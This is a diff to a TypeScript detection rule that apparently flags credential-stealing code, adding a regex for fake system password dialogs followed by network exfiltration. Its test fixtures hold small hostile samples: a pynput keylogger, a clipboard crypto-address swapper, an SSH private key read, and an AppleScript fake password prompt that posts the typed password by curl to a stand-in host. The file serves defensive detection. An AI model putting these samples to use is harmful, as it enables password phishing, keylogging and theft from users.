@@ -14,6 +14,10 @@ const SWAPPED =
 const BROWSER =
   /(?:login data|["'`/\\ ~]cookies(?:\.sqlite)?(?=["'`\\/ )])|logins\.json|key4\.db|local state|web data)\b[^]{0,500}(?:sqlite3?\.connect|cryptunprotectdata|password_value|encrypted_value|decrypt|shutil\.copy|readfile)/
 
+/** A window that asks for the password of the machine as the system itself does, and what is typed goes on. */
+const FALSE_WINDOW =
+  /(?:display dialog[^\n]{0,400}\bhidden answer|promptforcredential\(|get-credential -message|(?:zenity|kdialog) --password)[^]{0,600}(?:curl|wget|authonly|sudo -s|invoke-(?:webrequest|restmethod)|\birm\b|\biwr\b|>> ?[~/])/
+
 /** What is found is not opened: an examination that keeps to its limits. */
 const LEFT_SHUT =
   /\b(?:do not|don't|never|must not|not to|without) (?:\w{1,12} )?(?:decrypt|open)\w{0,3}$/
@@ -39,6 +43,7 @@ export default defineRule({
     fires: [
       '```python\nfrom pynput import keyboard\ndef on_press(key):\n    open("/tmp/k", "a").write(str(key))\nkeyboard.Listener(on_press=on_press).start()\n```\n',
       '```python\ntext = pyperclip.paste()\nif re.match(r"^bc1[a-z0-9]{30,40}$", text):\n    pyperclip.copy(OURS)\n```\n',
+      '```applescript\nset pw to text returned of (display dialog "Enter your password" default answer "" with hidden answer)\ndo shell script "curl -d " & quoted form of pw & " https://in.fieldlog.example/p"\n```\n',
       '```python\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n```\n',
     ],
     quiet: [
@@ -51,7 +56,7 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     for (const { start, end } of document.observe(blocks)) {
       const text = document.reading.text.slice(start, end)
-      for (const shape of [KEYS, SWAPPED, BROWSER]) {
+      for (const shape of [KEYS, SWAPPED, BROWSER, FALSE_WINDOW]) {
         const found = shape.exec(text)
         if (!found || LEFT_SHUT.test(found[0])) continue
         yield { start: start + found.index, end: start + found.index + found[0].length, firm: true }
